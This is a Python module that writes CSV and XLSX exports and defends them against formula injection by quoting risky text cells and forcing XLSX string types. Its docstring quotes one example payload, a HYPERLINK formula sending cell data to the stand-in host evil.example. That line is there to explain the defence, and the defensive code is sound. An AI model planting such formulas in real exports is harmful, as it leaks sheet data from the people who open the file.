"""The one writer of spreadsheet files (CSV and XLSX) that people open, and its reader's half.

A spreadsheet program runs a cell that begins with `=`, `+`, `-` or `@` as a formula (and some
also one that begins with a tab or a carriage return): a product title such as
`=HYPERLINK("https://evil.example/?"&A2, "Click")` would leak the sheet or run commands on the
seller's machine (CSV or formula injection). So every CSV and XLSX the platform produces is
written here:

- a *text* cell that begins with one of those characters gets a leading single quote, the
  spreadsheet's own mark for "this is text";
- XLSX cells are written as strings (`data_type` "s"), never as formulas;
- numbers (int, Decimal, float) stay numbers, so a negative amount is still a number; pass them
  as numbers, not as formatted text.

Files we read back (the catalogue import reads its own export) undo the mark with `read_text()`.
CSV files start with a byte-order mark, so spreadsheet programs read UTF-8 (Chinese) correctly.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator
from decimal import Decimal

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"


def safe_text(text: str) -> str:
    """`text`, with a leading single quote when a spreadsheet would run it as a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def read_text(text: str) -> str:
    """The inverse of `safe_text()` for a cell read back from a file we may have written."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def _cell(value):
    """A cell's value as written: text made safe, numbers kept as numbers, None as empty."""
    if value is None:
        return ""
    if isinstance(value, int | float | Decimal) and not isinstance(value, bool):
        return value
    return safe_text(str(value))


class _Line:
    """A file-like object whose write() returns what it was given: csv.writer then hands back
    each formatted line, to be streamed or joined."""

    def write(self, value):
        return value


def csv_lines(rows: Iterable[Iterable]) -> Iterator[str]:
    """The lines of a CSV file: a byte-order mark, then one line per row, every cell made safe.
    Lazy, so a `StreamingHttpResponse` can send a large file as it is read from the database."""
    writer = csv.writer(_Line())
    yield BOM
    for row in rows:
        cells = map(_cell, row)
        yield writer.writerow([format(c, "f") if isinstance(c, Decimal) else c for c in cells])


def csv_bytes(rows: Iterable[Iterable]) -> bytes:
    """A whole CSV file (UTF-8 with a byte-order mark), every cell made safe."""
    return "".join(csv_lines(rows)).encode("utf-8")


def xlsx_bytes(rows: Iterable[Iterable], *, sheet: str) -> bytes:
    """A whole XLSX workbook of one sheet, written row by row (openpyxl's write-only mode):
    text cells made safe and typed as strings, numbers as numbers."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell

    workbook = Workbook(write_only=True)
    worksheet = workbook.create_sheet(sheet)
    for row in rows:
        cells = []
        for value in row:
            cell = WriteOnlyCell(worksheet, value=_cell(value))
            if isinstance(cell.value, str):
                cell.data_type = "s"  # openpyxl would otherwise store "=…" as a formula
            cells.append(cell)
        worksheet.append(cells)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()
